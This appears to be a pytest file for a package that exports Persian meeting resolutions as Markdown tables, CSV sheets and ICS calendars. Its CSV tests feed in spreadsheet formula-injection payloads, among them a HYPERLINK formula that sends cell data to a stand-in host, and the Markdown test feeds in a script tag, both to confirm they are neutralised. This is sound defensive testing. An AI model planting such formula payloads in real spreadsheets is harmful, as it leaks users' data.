"""Markdown and CSV sheets, and the ICS calendar: read back and checked against seed 003."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from icalendar import Calendar
from sheetdata import DUE, fixture003, seed003

import minutes
from minutes.text.normalize import to_persian_digits
from minutes.sheets.render import neutralize_cell

AS_OF = "1399-11-28"


@pytest.fixture(scope="module")
def seed():
    return seed003()


def _flat(text: str | None) -> str:
    return " ".join((text or "").split())


# --- Markdown ------------------------------------------------------------------------------

def test_markdown_table(seed):
    md = minutes.render(seed, "md", as_of=AS_OF)
    lines = md.splitlines()
    head = lines.index("| ردیف | شرح مصوبه | اقدام کننده | مسئول نظارت | مهلت | وضعیت | شناسه |")
    assert lines[head + 1] == "|---|---|---|---|---|---|---|"
    rows = lines[head + 2: head + 9]
    assert lines[head + 9] == ""
    for res, line in zip(seed.resolutions, rows):
        cells = [c.strip() for c in line.strip("|").split(" | ")]
        assert len(cells) == 7
        assert cells[0] == to_persian_digits(str(res.row))
        assert cells[2] == _flat(res.actor) and cells[3] == _flat(res.supervisor)
        if DUE[res.row]:
            assert to_persian_digits(DUE[res.row].replace("-", "/")) in cells[4]
        assert cells[6] == f"`{res.id}`"
    assert "## خلاصه وضعیت" in md and "| ۰ | ۱ | ۱ | ۴ | ۱ | ۷ |" in md


def test_markdown_escapes_pipes_and_html():
    m = fixture003()
    m.resolutions[0].text = "a | b <script>x</script>"
    md = minutes.render(m, "md", as_of=AS_OF)
    assert "a \\| b &lt;script&gt;x&lt;/script&gt;" in md and "<script>" not in md


def test_markdown_by_actor(seed):
    md = minutes.render(seed, "md", as_of=AS_OF, by="actor")
    assert md.count("## اقدام کننده: ") == len({r.actor for r in seed.resolutions})


# --- CSV -----------------------------------------------------------------------------------

def _csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # BOM, so Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_rows(seed):
    text = minutes.render(seed, "csv", as_of=AS_OF)
    assert "\r\n" in text
    rows = _csv(text)
    assert len(rows) == 7
    for res, row in zip(seed.resolutions, rows):
        assert row["شناسه"] == res.id and row["ردیف"] == str(res.row)
        assert row["اقدام کننده"] == res.actor and row["مسئول نظارت"] == res.supervisor
        assert row["شرح مصوبه"] == res.text and row["مهلت"] == res.deadline.text
        assert row["تاریخ سررسید"] == (DUE[res.row] or "")
    assert rows[0]["تاریخ میلادی"] == "2021-02-18"
    assert [r["وضعیت"] for r in rows][:2] == ["نزدیک سررسید", "بدون تاریخ"]


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"click")',
                                     "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
def test_csv_neutralises_formulas(payload):
    m = fixture003()
    m.resolutions[0].text = payload
    m.resolutions[0].actor = payload
    row = _csv(minutes.render(m, "csv", as_of=AS_OF))[0]
    assert row["شرح مصوبه"] == "'" + payload and row["اقدام کننده"] == "'" + payload


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r <>|\"',\nabc۱۲ابپ"), min_size=1, max_size=20))
def test_csv_round_trip_is_safe(text):
    m = fixture003()
    m.resolutions = m.resolutions[:1]
    m.resolutions[0].text = text
    cell = _csv(minutes.render(m, "csv", as_of=AS_OF))[0]["شرح مصوبه"]
    assert cell == neutralize_cell(text)
    assert not cell.lstrip(" ").startswith(tuple("=+-@\t\r"))


@pytest.mark.parametrize("value, expected", [("plain", "plain"), ("", ""), (None, ""), (7, "7"),
                                             ("a=b", "a=b"), ("=1", "'=1")])
def test_neutralize_cell(value, expected):
    assert neutralize_cell(value) == expected


def test_csv_template_override(seed, tmp_path):
    (tmp_path / "sheet.csv.j2").write_text("{% for r in rows %}{{ [r.id, r.text]|csvrow }}{% endfor %}",
                                           encoding="utf-8")
    m = fixture003()
    m.resolutions[0].text = "=1+1"
    rows = list(csv.reader(io.StringIO(minutes.render(m, "csv", templates=tmp_path)[1:])))
    assert len(rows) == 7 and rows[0][1] == "'=1+1"  # the filter still neutralises


# --- ICS -----------------------------------------------------------------------------------

def test_ics_one_todo_per_dated_resolution(seed):
    cal = Calendar.from_ical(minutes.render(seed, "ics", as_of=AS_OF))
    todos = list(cal.walk("VTODO"))
    dated = [r for r in seed.resolutions if DUE[r.row]]
    assert len(todos) == len(dated) == 6
    for res, todo in zip(dated, todos):
        assert str(todo["UID"]) == f"{res.id}@minutes"
        y, mo, d = (int(x) for x in DUE[res.row].split("-"))
        import jdatetime

        assert todo.decoded("DUE") == jdatetime.date(y, mo, d).togregorian()
        assert str(todo["SUMMARY"]) == res.topic
        desc = str(todo["DESCRIPTION"])
        assert res.text in desc and res.actor in desc and res.supervisor in desc
        assert "جلسه شماره ۶" in desc
        assert isinstance(todo.decoded("DTSTAMP"), dt.datetime)


def test_ics_uids_are_stable_and_status_follows(seed, tmp_path):
    first = Calendar.from_ical(minutes.render(seed, "ics", as_of="1399-11-20"))
    status = tmp_path / "s.yaml"
    status.write_text(f"{seed.resolutions[0].id}: done\n", encoding="utf-8")
    again = Calendar.from_ical(minutes.render(seed003(), "ics", as_of="1399-12-05", statuses=str(status)))
    uids = [str(t["UID"]) for t in first.walk("VTODO")]
    assert uids == [str(t["UID"]) for t in again.walk("VTODO")] and len(set(uids)) == 6
    done = again.walk("VTODO")[0]
    assert str(done["STATUS"]) == "COMPLETED"
    assert str(first.walk("VTODO")[0]["STATUS"]) == "NEEDS-ACTION"


def test_ics_summary_without_topic_uses_first_words():
    m = fixture003()
    m.resolutions[0].topic = None
    todo = Calendar.from_ical(minutes.render(m, "ics", as_of=AS_OF)).walk("VTODO")[0]
    assert str(todo["SUMMARY"]) == " ".join(m.resolutions[0].text.split()[:10]) + " …"


def test_render_is_callable_twice_from_the_package():
    m = fixture003()
    assert minutes.render(m, "md", as_of=AS_OF) == minutes.render(m, "md", as_of=AS_OF)
    from minutes import render

    assert render(m, "csv", as_of=AS_OF).startswith("\ufeff")
